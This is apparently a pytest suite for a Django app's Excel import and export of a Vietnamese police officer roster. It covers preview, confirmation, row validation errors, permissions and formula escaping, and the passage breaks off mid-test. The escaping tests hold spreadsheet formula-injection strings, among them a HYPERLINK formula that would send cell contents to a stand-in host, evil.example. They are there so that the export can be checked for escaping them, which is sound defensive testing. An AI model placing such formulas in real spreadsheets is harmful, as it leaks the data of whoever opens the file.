"""The officer roster in Excel: upload → preview → confirm, the template, the export and its round trip.

Workbooks are built with openpyxl here and go through the real views; the tests assert on what the user sees
(the preview's rows, columns, values and reasons) and on what was, or was not, written to the database. The
administrator's client picks English with the language switch's cookie, so that messages do not depend on
the Vietnamese catalogue; column names and cell values are Vietnamese anyway, as in the users' files.
"""

import datetime
import io
import unicodedata
import zipfile

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from communes.models import District
from communes.services import divisions_load
from personnel.ages import years_before
from personnel.choices import Education, Ethnicity, Gender, OfficerStatus, PoliticalTheory, Rank
from personnel.models import Language, Officer
from rollout.core.spreadsheets import XLSX_CONTENT_TYPE
from tests.builders.spreadsheets import xlsx as spreadsheet
from tests.factories import CourseFactory, OfficerFactory, vet_fully

HEADERS = [
    "Số hiệu",
    "Họ và tên",
    "Ngày sinh",
    "Giới tính",
    "Dân tộc",
    "Ngôn ngữ",
    "Cấp bậc",
    "Đơn vị công tác",
    "Mã tỉnh",
    "Mã huyện quản lý",
    "Mã huyện quê quán",
    "Trình độ học vấn",
    "Lý luận chính trị",
    "Điện thoại",
    "Trạng thái",
]
IMPORT_COLUMNS = HEADERS[:-1]  # "Trạng thái" is exported, but read-only: it moves through vetting and assignments

KON_TUM = 62
DAK_GLEI = 610
NGOC_HOI = 611
DAK_TO = 612
GIA_LAI = 64
PLEIKU = 622  # Thành phố Pleiku, in Gia Lai


# --- helpers -------------------------------------------------------------------------------------------


def xlsx(headers, rows, **options) -> bytes:
    return spreadsheet(headers, rows, title="Cán bộ", **options)


def upload(content: bytes, name: str = "can-bo.xlsx") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=XLSX_CONTENT_TYPE)


def preview(client, content: bytes, name: str = "can-bo.xlsx"):
    return client.post(reverse("personnel:officer_import"), {"file": upload(content, name)})


def confirm(client, token: str):
    return client.post(reverse("personnel:officer_import"), {"token": token})


def vi(label) -> str:
    with translation.override("vi"):
        return str(label)


def years_ago(years: int, days: int = 40) -> datetime.date:
    return years_before(timezone.localdate(), years) - datetime.timedelta(days=days)


def officer_row(officer: Officer, **changes) -> list:
    """The officer as a row of the roster (as the export writes it), with ``changes`` by column name."""
    values = {
        "Số hiệu": officer.police_number,
        "Họ và tên": officer.full_name,
        "Ngày sinh": officer.birth_date,
        "Giới tính": vi(officer.get_gender_display()),
        "Dân tộc": vi(officer.get_ethnicity_display()),
        "Ngôn ngữ": ", ".join(language.name for language in officer.languages.all()),
        "Cấp bậc": vi(officer.get_rank_display()),
        "Đơn vị công tác": officer.current_unit,
        "Mã tỉnh": officer.province_id,
        "Mã huyện quản lý": officer.district_id,
        "Mã huyện quê quán": officer.home_district_id,
        "Trình độ học vấn": vi(officer.get_education_display()),
        "Lý luận chính trị": vi(officer.get_political_theory_display()),
        "Điện thoại": officer.phone,
        "Trạng thái": vi(officer.get_status_display()),
    }
    unknown = set(changes) - set(values)
    assert not unknown, unknown
    values.update(changes)
    return [values[header] for header in HEADERS]


def new_row(police_number: str, **changes) -> list:
    """A good row for an officer not yet in the roster: a Xơ Đăng Thượng úy of Đắk Glei, aged 30."""
    values = {
        "Số hiệu": police_number,
        "Họ và tên": "A Thị Hoa",
        "Ngày sinh": years_ago(30).strftime("%d/%m/%Y"),
        "Giới tính": "Nữ",
        "Dân tộc": "Xơ Đăng",
        "Ngôn ngữ": "Xơ Đăng, Tiếng Việt",
        "Cấp bậc": "Thượng úy",
        "Đơn vị công tác": "Công an huyện Đắk Glei",
        "Mã tỉnh": KON_TUM,
        "Mã huyện quản lý": DAK_GLEI,
        "Mã huyện quê quán": DAK_GLEI,
        "Trình độ học vấn": "Đại học",
        "Lý luận chính trị": "Trung cấp",
        "Điện thoại": "0912000111",
        "Trạng thái": None,
    }
    unknown = set(changes) - set(values)
    assert not unknown, unknown
    values.update(changes)
    return [values[header] for header in HEADERS]


def language(name: str) -> Language:
    return Language.objects.get(name=name)


def db_state() -> dict:
    """Every officer with every column, their languages and the history: any write shows up."""
    return {
        "officers": list(Officer.objects.order_by("pk").values()),
        "languages": sorted(Officer.languages.through.objects.values_list("officer_id", "language_id")),
        "history": Officer.history.count(),
    }


def stored_uploads() -> list:
    folder = settings.MEDIA_ROOT / "imports"
    return sorted(folder.iterdir()) if folder.exists() else []


def statuses(response) -> dict[int, str]:
    return {row.number: row.status for row in response.context["report"].rows}


def errors_by_row(response) -> dict[int, list[tuple[str, object, str]]]:
    return {
        row.number: [(e.column, e.value, e.message) for e in row.errors]
        for row in response.context["report"].rows
        if row.errors
    }


def changes_by_row(response) -> dict[int, dict[str, tuple]]:
    return {row.number: {c[0]: (c[1], c[2]) for c in row.changes} for row in response.context["report"].rows}


def messages_of(response) -> list[str]:
    return [str(m) for m in response.context["messages"]] if response.context else []


def file_error(response):
    """The one error shown under the file field, as (code, text)."""
    errors = response.context["form"].errors.as_data()["file"]
    assert len(errors) == 1, errors
    return errors[0].code, " ".join(errors[0].messages)


def sheet_rows(content: bytes) -> list[tuple]:
    return list(load_workbook(io.BytesIO(content)).worksheets[0].iter_rows(values_only=True))


def exported(response) -> dict[str, dict]:
    """The export's rows by police number, each as {column: value}."""
    headers, *rows = sheet_rows(response.content)
    assert list(headers) == HEADERS
    return {row[0]: dict(zip(HEADERS, row, strict=True)) for row in rows}


def in_english(client):
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    return client


@pytest.fixture
def admin_client(client_as):
    return in_english(client_as("administrator"))


@pytest.fixture
def roster(kon_tum):
    """Officers of three districts and the province, in several statuses, ranks, ages and languages."""
    xo_dang, ba_na, viet, gia_rai = (language(n) for n in ("Xơ Đăng", "Ba Na", "Tiếng Việt", "Gia Rai"))
    officers = {
        "glei_young": OfficerFactory(
            full_name="Y Blông", district_id=DAK_GLEI, birth_date=years_ago(24), rank=Rank.TRUNG_UY
        ),
        "glei_senior": OfficerFactory(
            full_name="Nguyễn Văn Hùng", district_id=DAK_GLEI, birth_date=years_ago(38), rank=Rank.DAI_UY
        ),
        "ngoc_hoi": OfficerFactory(
            full_name="A Thắm",
            district_id=NGOC_HOI,
            birth_date=years_ago(29),
            ethnicity=Ethnicity.GIE_TRIENG,
            home_district_id=NGOC_HOI,
            phone="+84905111222",
        ),
        "dak_to": OfficerFactory(
            full_name="Trần Thị Lan",
            gender=Gender.FEMALE,
            district_id=DAK_TO,
            birth_date=years_ago(44),
            rank=Rank.THIEU_TA,
            education=Education.POSTGRADUATE,
            political_theory=PoliticalTheory.ADVANCED,
        ),
        "province": OfficerFactory(full_name="Lê Quang Vinh", birth_date=years_ago(33), rank=Rank.THUONG_UY, phone=""),
    }
    officers["glei_young"].languages.set([xo_dang, viet])
    officers["glei_senior"].languages.set([viet])
    officers["ngoc_hoi"].languages.set([ba_na, gia_rai])
    officers["dak_to"].languages.set([xo_dang])
    return officers


# --- a good file ---------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_good_file_previews_then_creates_candidates_and_updates(roster, admin_client, users):
    changed = roster["glei_young"]
    unchanged = roster["ngoc_hoi"]
    content = xlsx(
        HEADERS,
        [
            # 2: a new officer; the status column says "deployed", but a new officer is always a candidate.
            new_row("201-001", **{"Trạng thái": vi(OfficerStatus.DEPLOYED.label)}),
            # 3: another one: languages without accents and in any case, a real date cell, the phone as the
            # number Excel makes of 0912000222, no home district, English labels.
            new_row(
                "201-002",
                **{
                    "Họ và tên": "Rơ Châm Thị Duyên",
                    "Ngày sinh": datetime.datetime(1995, 3, 15),
                    "Ngôn ngữ": "gia rai, TIENG VIET",
                    "Dân tộc": "Gia Rai",
                    "Giới tính": "Female",
                    "Cấp bậc": "Trung úy",
                    "Mã huyện quản lý": None,
                    "Mã huyện quê quán": None,
                    "Điện thoại": 912000222,
                },
            ),
            # 4: an existing officer is promoted, learns Ba Na and gets a new phone.
            officer_row(
                changed,
                **{"Cấp bậc": "Thượng úy", "Ngôn ngữ": "Xơ Đăng, Ba Na, Tiếng Việt", "Điện thoại": "0987654321"},
            ),
            # 5: exactly as in the database.
            officer_row(unchanged),
        ],
    )
    before = db_state()

    response = preview(admin_client, content)

    assert response.status_code == 200
    report = response.context["report"]
    assert report.ok
    assert statuses(response) == {2: "new", 3: "new", 4: "changed", 5: "unchanged"}
    assert report.totals == {"new": 2, "changed": 1, "unchanged": 1, "error": 0}
    # The preview says what changes, in the file's own words.
    assert changes_by_row(response)[4] == {
        "Cấp bậc": ("Trung úy", "Thượng úy"),
        "Ngôn ngữ": ("Xơ Đăng, Tiếng Việt", "Ba Na, Xơ Đăng, Tiếng Việt"),
        "Điện thoại": ("0912345678", "0987654321"),
    }
    assert changes_by_row(response)[5] == {}
    html = response.content.decode()
    assert 'data-testid="import-confirm"' in html
    assert html.count('data-status="new"') == 2
    assert html.count('data-status="changed"') == 1
    assert html.count('data-status="unchanged"') == 1
    assert "<strong>Ngôn ngữ</strong>: Xơ Đăng, Tiếng Việt → Ba Na, Xơ Đăng, Tiếng Việt" in html
    assert "A Thị Hoa" in html
    # Nothing is written by the preview.
    assert db_state() == before
    assert len(stored_uploads()) == 1

    response = confirm(admin_client, response.context["token"])

    assert response.status_code == 302
    assert response["Location"] == reverse("personnel:officer_list")
    follow = admin_client.get(response["Location"])
    assert "Import finished: 2 new, 1 changed, 1 unchanged." in messages_of(follow)
    hoa = Officer.objects.get(police_number="201-001")
    assert hoa.status == OfficerStatus.CANDIDATE
    assert (hoa.full_name, hoa.birth_date, hoa.gender, hoa.ethnicity, hoa.rank) == (
        "A Thị Hoa",
        years_ago(30),
        Gender.FEMALE,
        Ethnicity.XO_DANG,
        Rank.THUONG_UY,
    )
    assert (hoa.province_id, hoa.district_id, hoa.home_district_id) == (KON_TUM, DAK_GLEI, DAK_GLEI)
    assert (hoa.education, hoa.political_theory, hoa.phone) == (
        Education.UNIVERSITY,
        PoliticalTheory.INTERMEDIATE,
        "0912000111",
    )
    assert hoa.current_unit == "Công an huyện Đắk Glei"
    assert set(hoa.languages.values_list("name", flat=True)) == {"Xơ Đăng", "Tiếng Việt"}
    duyen = Officer.objects.get(police_number="201-002")
    assert duyen.status == OfficerStatus.CANDIDATE
    assert (duyen.birth_date, duyen.gender, duyen.rank, duyen.phone) == (
        datetime.date(1995, 3, 15),
        Gender.FEMALE,
        Rank.TRUNG_UY,
        "0912000222",
    )
    assert (duyen.district_id, duyen.home_district_id) == (None, None)
    assert set(duyen.languages.values_list("name", flat=True)) == {"Gia Rai", "Tiếng Việt"}
    # History: who imported, and what changed.
    administrator = users["administrator"]
    for officer in (hoa, duyen):
        [created] = officer.history.all()
        assert (created.history_type, created.history_user) == ("+", administrator)
    changed.refresh_from_db()
    assert (changed.rank, changed.phone) == (Rank.THUONG_UY, "0987654321")
    assert set(changed.languages.values_list("name", flat=True)) == {"Xơ Đăng", "Ba Na", "Tiếng Việt"}
    latest = changed.history.first()
    assert (latest.history_type, latest.history_user) == ("~", administrator)
    assert {c.field for c in latest.diff_against(latest.prev_record).changes} == {"rank", "phone"}
    # The unchanged row wrote nothing: no new history entry, same languages.
    assert unchanged.history.count() == 1
    assert set(unchanged.languages.values_list("name", flat=True)) == {"Ba Na", "Gia Rai"}
    # The detail page shows the import in the officer's history.
    page = admin_client.get(hoa.get_absolute_url())
    assert page.status_code == 200
    [entry] = page.context["history"]
    assert (entry.action, entry.user) == ("+", administrator)


@pytest.mark.django_db
def test_an_update_keeps_the_officers_status(roster, admin_client, users):
    """The status is read-only in the file: vetting, training and assignments move it, not a spreadsheet."""
    CourseFactory()  # a mandatory course the officer has not taken: vetted, not ready
    officer = vet_fully(roster["dak_to"], users["provincial_clerk"])
    assert officer.status == OfficerStatus.VETTED
    content = xlsx(
        HEADERS,
        [officer_row(officer, **{"Trạng thái": vi(OfficerStatus.READY.label), "Đơn vị công tác": "Phòng PV01"})],
    )

    response = preview(admin_client, content)
    assert statuses(response) == {2: "changed"}
    assert changes_by_row(response)[2] == {"Đơn vị công tác": ("Phòng Cảnh sát QLHC về TTXH", "Phòng PV01")}
    confirm(admin_client, response.context["token"])

    officer.refresh_from_db()
    assert (officer.status, officer.current_unit) == (OfficerStatus.VETTED, "Phòng PV01")


@pytest.mark.django_db
def test_a_file_with_some_columns_updates_only_those(roster, admin_client):
    officer = roster["glei_senior"]
    before = Officer.objects.filter(pk=officer.pk).values().get()
    content = xlsx(["Số hiệu", "Điện thoại", "Ngôn ngữ"], [[officer.police_number, "0905000999", "Ba Na"]])

    response = preview(admin_client, content)
    assert statuses(response) == {2: "changed"}
    confirm(admin_client, response.context["token"])

    after = Officer.objects.filter(pk=officer.pk).values().get()
    assert after["phone"] == "0905000999"
    assert list(officer.languages.values_list("name", flat=True)) == ["Ba Na"]
    for column in ("full_name", "birth_date", "rank", "district_id", "home_district_id", "current_unit"):
        assert after[column] == before[column], column


# --- bad rows ------------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_bad_rows_are_each_reported_with_row_column_and_reason_and_nothing_is_written(roster, admin_client):
    divisions_load(province_codes=[GIA_LAI])
    assert District.objects.get(code=PLEIKU).province_id == GIA_LAI
    today = timezone.localdate()
    existing = roster["glei_senior"]
    content = xlsx(
        HEADERS,
        [
            new_row("202-001"),  # 2: good, but the file is refused as a whole
            new_row("202-002", **{"Ngôn ngữ": "Xơ Đăng, Klingon"}),  # 3: unknown language
            new_row("2020-03"),  # 4: police number not written 123-456
            new_row("202-004", **{"Ngày sinh": (today + datetime.timedelta(days=30)).strftime("%d/%m/%Y")}),  # 5
            new_row("202-005", **{"Ngày sinh": "01/01/1950"}),  # 6: 70 and more
            new_row("202-006", **{"Ngày sinh": "01/01/1900"}),  # 7: not a plausible date at all
            new_row("202-007", **{"Mã huyện quản lý": 999}),  # 8: no such district
            new_row("202-008", **{"Mã huyện quản lý": PLEIKU}),  # 9: a district of another province
            new_row("202-009", **{"Cấp bậc": "Đại tướng"}),  # 10: not a rank an officer here holds
            new_row("202-001", **{"Họ và tên": "Người Khác"}),  # 11: the police number of row 2 again
            officer_row(existing, **{"Ngày sinh": years_ago(15), "Điện thoại": "12345"}),  # 12: two errors
            new_row("202-012", **{"Giới tính": "Không rõ", "Dân tộc": "Kinh Kinh"}),  # 13: unknown labels
            new_row("202-013", **{"Mã tỉnh": 99, "Mã huyện quê quán": "abc"}),  # 14: bad codes
        ],
    )
    before = db_state()

    response = preview(admin_client, content)

    assert response.status_code == 400
    report = response.context["report"]
    assert not report.ok
    assert response.context["token"] is None
    assert statuses(response) == {2: "new", **dict.fromkeys(range(3, 15), "error")}
    errors = errors_by_row(response)
    assert set(errors) == set(range(3, 15))

    def cells(number):
        return sorted((column, value) for column, value, _message in errors[number])

    def reason(number, column):
        return " ".join(message for c, _value, message in errors[number] if c == column)

    assert cells(3) == [("Ngôn ngữ", "Xơ Đăng, Klingon")]
    assert "Unknown language(s): Klingon" in reason(3, "Ngôn ngữ")
    assert "Giẻ Triêng" in reason(3, "Ngôn ngữ")  # the known languages are listed
    assert cells(4) == [("Số hiệu", "2020-03")]
    assert "123-456" in reason(4, "Số hiệu")
    assert cells(5) == [("Ngày sinh", (today + datetime.timedelta(days=30)).strftime("%d/%m/%Y"))]
    assert "between 18 and 70" in reason(5, "Ngày sinh")
    assert cells(6) == [("Ngày sinh", "01/01/1950")]
    assert "between 18 and 70" in reason(6, "Ngày sinh")
    assert cells(7) == [("Ngày sinh", "01/01/1900")]
    assert "out of range" in reason(7, "Ngày sinh")
    assert cells(8) == [("Mã huyện quản lý", 999)]
    assert "No district has code 999" in reason(8, "Mã huyện quản lý")
    assert cells(9) == [("Mã huyện quản lý", PLEIKU)]
    assert "not in the officer's province" in reason(9, "Mã huyện quản lý")
    assert cells(10) == [("Cấp bậc", "Đại tướng")]
    assert "Thượng úy" in reason(10, "Cấp bậc")  # the valid ranks are listed, in Vietnamese
    assert cells(11) == [("Số hiệu", "202-001")]
    assert "already listed in row 2" in reason(11, "Số hiệu")
    assert cells(12) == [("Ngày sinh", years_ago(15)), ("Điện thoại", "12345")]
    assert "between 18 and 70" in reason(12, "Ngày sinh")
    assert "0912345678" in reason(12, "Điện thoại")
    assert cells(13) == [("Dân tộc", "Kinh Kinh"), ("Giới tính", "Không rõ")]
    assert "Nam" in reason(13, "Giới tính")
    assert cells(14) == [("Mã huyện quê quán", "abc"), ("Mã tỉnh", 99)]
    assert "No province has code 99" in reason(14, "Mã tỉnh")
    # The page shows every error with its row, column and value, and no confirm button.
    html = response.content.decode()
    assert 'data-testid="import-refused"' in html
    assert 'data-testid="import-confirm"' not in html
    assert "12 rows have errors. Nothing was written" in html
    assert html.count('data-status="error"') == 12
    for needle in (
        "<strong>Ngôn ngữ</strong> = “Xơ Đăng, Klingon”",
        "<strong>Số hiệu</strong> = “2020-03”",
        "<strong>Ngày sinh</strong> = “01/01/1950”",
        "<strong>Ngày sinh</strong> = “01/01/1900”",
        f"<strong>Ngày sinh</strong> = “{years_ago(15).strftime('%d/%m/%Y')}”",
        "<strong>Mã huyện quản lý</strong> = “999”",
        f"<strong>Mã huyện quản lý</strong> = “{PLEIKU}”",
        "<strong>Cấp bậc</strong> = “Đại tướng”",
        "<strong>Số hiệu</strong> = “202-001”",
        "<strong>Điện thoại</strong> = “12345”",
        "<strong>Mã tỉnh</strong> = “99”",
    ):
        assert needle in html, needle
    for number in range(3, 15):
        assert f"<td>{number}</td>" in html
    # Nothing written, nothing kept.
    assert db_state() == before
    assert not Officer.objects.filter(police_number__startswith="202-").exists()
    assert stored_uploads() == []


@pytest.mark.django_db
def test_a_police_number_listed_twice_is_refused_even_when_both_rows_agree(roster, admin_client):
    existing = roster["dak_to"]
    content = xlsx(
        HEADERS,
        [new_row("203-001"), officer_row(existing), new_row("203-001"), officer_row(existing, **{"Điện thoại": ""})],
    )
    before = db_state()

    response = preview(admin_client, content)

    assert response.status_code == 400
    assert statuses(response) == {2: "new", 3: "unchanged", 4: "error", 5: "error"}
    errors = errors_by_row(response)
    assert errors[4] == [("Số hiệu", "203-001", "Police number 203-001 is already listed in row 2 of this file.")]
    assert errors[5] == [
        (
            "Số hiệu",
            existing.police_number,
            f"Police number {existing.police_number} is already listed in row 3 of this file.",
        )
    ]
    assert db_state() == before


@pytest.mark.django_db
def test_a_new_officer_needs_every_required_column(roster, admin_client):
    """A file with only some columns may update officers, but a new officer needs all their particulars:
    each missing column is named, on the row that needs it."""
    existing = roster["glei_young"]
    content = xlsx(
        ["Số hiệu", "Họ và tên", "Cấp bậc"],
        [[existing.police_number, existing.full_name, "Đại úy"], ["204-001", "Y Khoa", "Thiếu úy"]],
    )
    before = db_state()

    response = preview(admin_client, content)

    assert response.status_code == 400
    assert statuses(response) == {2: "changed", 3: "error"}
    errors = errors_by_row(response)[3]
    assert sorted(column for column, _value, _message in errors) == sorted(
        ["Ngày sinh", "Giới tính", "Dân tộc", "Đơn vị công tác", "Mã tỉnh", "Trình độ học vấn"]
    )
    for column, value, message in errors:
        assert value is None
        assert f"Missing column(s): “{column}”" in message
    html = response.content.decode()
    assert "<strong>Ngày sinh</strong>: Missing column(s): “Ngày sinh”" in html
    assert db_state() == before


@pytest.mark.django_db
def test_blank_required_cells_of_a_new_officer_are_errors(roster, admin_client):
    content = xlsx(
        HEADERS,
        [new_row("205-001", **{"Họ và tên": None, "Ngày sinh": None, "Cấp bậc": None, "Mã tỉnh": None})],
    )
    before = db_state()

    response = preview(admin_client, content)

    assert response.status_code == 400
    errors = errors_by_row(response)[2]
    assert {(column, value) for column, value, _ in errors} == {
        ("Họ và tên", None),
        ("Ngày sinh", None),
        ("Cấp bậc", None),
        ("Mã tỉnh", None),
    }
    assert {message for _c, _v, message in errors} == {"This field cannot be null."}
    assert db_state() == before


@pytest.mark.django_db
def test_a_file_without_the_police_number_column_is_refused(roster, admin_client):
    before = db_state()

    response = preview(admin_client, xlsx(IMPORT_COLUMNS[1:], [new_row("206-001")[1:-1]]))

    assert response.status_code == 400
    code, text = file_error(response)
    assert code == "missing_header"
    assert "“Số hiệu”" in text
    assert 'data-testid="import-preview"' not in response.content.decode()
    assert db_state() == before


@pytest.mark.django_db
def test_a_misspelt_column_is_refused(roster, admin_client):
    before = db_state()

    response = preview(admin_client, xlsx(["Số hiệu", "Dien thoai"], [[roster["dak_to"].police_number, "0905"]]))

    assert response.status_code == 400
    code, text = file_error(response)
    assert code == "unknown_header"
    assert "Dien thoai" in text
    assert db_state() == before


@pytest.mark.django_db
def test_confirm_checks_every_row_again(roster, admin_client):
    """The confirm imports the stored file again, row by row, and does not trust the preview: here a language
    the file names is removed between the two steps."""
    content = xlsx(HEADERS, [new_row("207-001"), new_row("207-002", **{"Mã huyện quản lý": NGOC_HOI})])
    response = preview(admin_client, content)
    assert statuses(response) == {2: "new", 3: "new"}
    Language.objects.filter(name="Tiếng Việt").delete()
    before = db_state()

    response = confirm(admin_client, response.context["token"])

    assert response.status_code == 400
    assert statuses(response) == {2: "error", 3: "error"}
    assert errors_by_row(response)[2][0][:2] == ("Ngôn ngữ", "Xơ Đăng, Tiếng Việt")
    assert db_state() == before
    assert stored_uploads() == []


# --- files that are not a usable workbook --------------------------------------------------------------


def _csv() -> bytes:
    return ("Số hiệu,Họ và tên\n201-001,A Thị Hoa\n").encode()


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "content", "code", "text"),
    [
        ("can-bo.csv", _csv(), "extension", "Only Excel workbooks (.xlsx)"),
        ("can-bo.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "extension", "Only Excel workbooks"),
        ("can-bo.pdf", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", "extension", "Only Excel workbooks"),
        ("can-bo.xlsx", _csv(), "not_xlsx", "not an Excel workbook"),
        ("can-bo.xlsx", xlsx(HEADERS, []), "empty", "no data rows"),
    ],
    ids=["csv", "xls", "pdf", "csv-renamed-xlsx", "headers-only"],
)
def test_a_file_that_is_not_an_xlsx_workbook_is_refused(roster, admin_client, name, content, code, text):
    before = db_state()

    response = preview(admin_client, content, name)

    assert response.status_code == 400
    error_code, error_text = file_error(response)
    assert error_code == code
    assert text in error_text
    html = response.content.decode()
    assert 'data-testid="file-error"' in html
    assert 'data-testid="import-preview"' not in html
    assert db_state() == before
    assert stored_uploads() == []


# --- permissions ---------------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("role", ["committee", "provincial_clerk", "district_clerk", "no_role"])
def test_only_administrators_may_import(roster, client_as, role):
    client = client_as(role)
    content = xlsx(HEADERS, [new_row("208-001")])
    before = db_state()

    assert client.get(reverse("personnel:officer_import")).status_code == 403
    assert client.get(reverse("personnel:officer_template")).status_code == 403
    assert client.post(reverse("personnel:officer_import"), {"file": upload(content)}).status_code == 403
    assert client.post(reverse("personnel:officer_import"), {"token": "x" * 32}).status_code == 403
    # The list offers no import button either.
    if role != "no_role":
        page = client.get(reverse("personnel:officer_list"))
        assert page.status_code == 200
        assert reverse("personnel:officer_import") not in page.content.decode()
    assert db_state() == before
    assert stored_uploads() == []


@pytest.mark.django_db
def test_an_administrators_token_is_useless_to_a_clerk(roster, client, users):
    client.force_login(users["administrator"])
    response = preview(client, xlsx(HEADERS, [new_row("209-001")]))
    token = response.context["token"]
    before = db_state()

    client.force_login(users["provincial_clerk"])

    assert confirm(client, token).status_code == 403
    assert db_state() == before


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("method", "url"),
    [
        ("get", "personnel:officer_import"),
        ("post", "personnel:officer_import"),
        ("get", "personnel:officer_template"),
        ("get", "personnel:officer_export"),
    ],
)
def test_anonymous_users_are_sent_to_the_login_page(roster, client, method, url):
    before = db_state()
    data = {"file": upload(xlsx(HEADERS, [new_row("210-001")]))} if method == "post" else None

    response = getattr(client, method)(reverse(url), data)

    assert response.status_code == 302
    assert "/login/" in response["Location"]
    assert db_state() == before


@pytest.mark.django_db
def test_the_administrator_sees_the_import_page_with_the_template_link(roster, admin_client):
    page = admin_client.get(reverse("personnel:officer_list"))
    assert reverse("personnel:officer_import") in page.content.decode()

    response = admin_client.get(reverse("personnel:officer_import"))

    assert response.status_code == 200
    html = response.content.decode()
    assert 'data-testid="import-upload"' in html
    assert reverse("personnel:officer_template") in html


# --- template ------------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_template_has_the_vietnamese_headers_an_import_reads(roster, admin_client):
    response = admin_client.get(reverse("personnel:officer_template"))

    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert 'filename="mau-nhap-can-bo.xlsx"' in response["Content-Disposition"]
    assert sheet_rows(response.content) == [tuple(IMPORT_COLUMNS)]


@pytest.mark.django_db
def test_the_filled_in_template_imports(roster, admin_client):
    workbook = load_workbook(io.BytesIO(admin_client.get(reverse("personnel:officer_template")).content))
    workbook.worksheets[0].append(new_row("211-001", **{"Họ và tên": "Y Thành"})[:-1])
    buffer = io.BytesIO()
    workbook.save(buffer)

    response = preview(admin_client, buffer.getvalue())
    assert statuses(response) == {2: "new"}
    confirm(admin_client, response.context["token"])

    officer = Officer.objects.get(police_number="211-001")
    assert (officer.full_name, officer.status, officer.district_id) == ("Y Thành", OfficerStatus.CANDIDATE, DAK_GLEI)


# --- export --------------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_export_writes_every_column_in_vietnamese(roster, admin_client):
    response = admin_client.get(reverse("personnel:officer_export"))

    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert "attachment;" in response["Content-Disposition"]
    assert ".xlsx" in response["Content-Disposition"]
    rows = exported(response)
    assert set(rows) == {o.police_number for o in roster.values()}
    officer = roster["ngoc_hoi"]
    assert rows[officer.police_number] == {
        "Số hiệu": officer.police_number,
        "Họ và tên": "A Thắm",
        "Ngày sinh": datetime.datetime.combine(officer.birth_date, datetime.time()),
        "Giới tính": "Nam",
        "Dân tộc": "Giẻ Triêng",
        "Ngôn ngữ": "Ba Na, Gia Rai",
        "Cấp bậc": "Thượng úy",
        "Đơn vị công tác": "Phòng Cảnh sát QLHC về TTXH",
        "Mã tỉnh": KON_TUM,
        "Mã huyện quản lý": NGOC_HOI,
        "Mã huyện quê quán": NGOC_HOI,
        "Trình độ học vấn": "Đại học",
        "Lý luận chính trị": "Trung cấp",
        "Điện thoại": "'+84905111222",  # text that a spreadsheet would read as a formula is escaped
        "Trạng thái": vi(OfficerStatus.CANDIDATE.label),
    }
    dak_to = rows[roster["dak_to"].police_number]
    assert (dak_to["Giới tính"], dak_to["Cấp bậc"], dak_to["Trình độ học vấn"], dak_to["Lý luận chính trị"]) == (
        "Nữ",
        "Thiếu tá",
        "Sau đại học",
        "Cao cấp",
    )
    province = rows[roster["province"].police_number]
    assert (province["Mã huyện quản lý"], province["Ngôn ngữ"], province["Điện thoại"]) == (None, None, None)
    # The dates are real dates shown dd/mm/yyyy.
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    assert sheet["C2"].number_format == "DD/MM/YYYY"


@pytest.mark.django_db
def test_export_then_import_is_all_unchanged(roster, admin_client, users):
    # Values that a spreadsheet would run as formulas survive the round trip too.
    Officer.objects.filter(pk=roster["province"].pk).update(full_name="=HYPERLINK(“http://x”)", phone="+84905000111")
    vet_fully(roster["glei_senior"], users["provincial_clerk"])
    exported_file = admin_client.get(reverse("personnel:officer_export")).content
    before = db_state()

    response = preview(admin_client, exported_file, "danh-sach-can-bo.xlsx")

    assert response.status_code == 200
    report = response.context["report"]
    assert report.totals == {"new": 0, "changed": 0, "unchanged": 5, "error": 0}
    assert set(statuses(response)) == set(range(2, 7))
    response = confirm(admin_client, response.context["token"])
    assert response.status_code == 302
    assert db_state() == before
    assert Officer.objects.get(pk=roster["province"].pk).full_name == "=HYPERLINK(“http://x”)"


@pytest.mark.django_db
def test_export_escapes_formulas(roster, admin_client):
    dangerous = {
        "glei_young": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
        "glei_senior": "+1+1",
        "ngoc_hoi": "-2+3",
        "dak_to": "@SUM(1,2)",
    }
    for key, name in dangerous.items():
        Officer.objects.filter(pk=roster[key].pk).update(full_name=name)
    Officer.objects.filter(pk=roster["province"].pk).update(current_unit="=1+1")

    content = admin_client.get(reverse("personnel:officer_export")).content

    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    by_number = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    for key, name in dangerous.items():
        cell = by_number[roster[key].police_number][1]
        assert cell.data_type == "s", name
        assert cell.value == "'" + name
    assert by_number[roster["province"].police_number][7].value == "'=1+1"
    assert by_number[roster["province"].police_number][1].value == "Lê Quang Vinh"
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"status": "vetted"}, {"glei_senior"}),
        ({"rank": str(Rank.THIEU_TA)}, {"dak_to"}),
        ({"district": str(DAK_GLEI)}, {"glei_young", "glei_senior"}),
        ({"language": "xo-dang"}, {"glei_young", "dak_to"}),
        ({"age": "18-25"}, {"glei_young"}),
        ({"age": "41-45"}, {"dak_to"}),
        ({"q": "nguyen van"}, {"glei_senior"}),
        ({"district": str(DAK_GLEI), "language": "vi"}, {"glei_young", "glei_senior"}),
        ({"district": str(DAK_GLEI), "status": "vetted"}, {"glei_senior"}),
    ],
    ids=["status", "rank", "district", "language", "age-young", "age-older", "search", "district-language", "two"],
)
def test_export_respects_the_list_filters(roster, admin_client, users, query, expected):
    CourseFactory()  # a mandatory course nobody has taken: the vetted officer stays vetted
    vet_fully(roster["glei_senior"], users["provincial_clerk"])
    query = dict(query)
    if "language" in query:
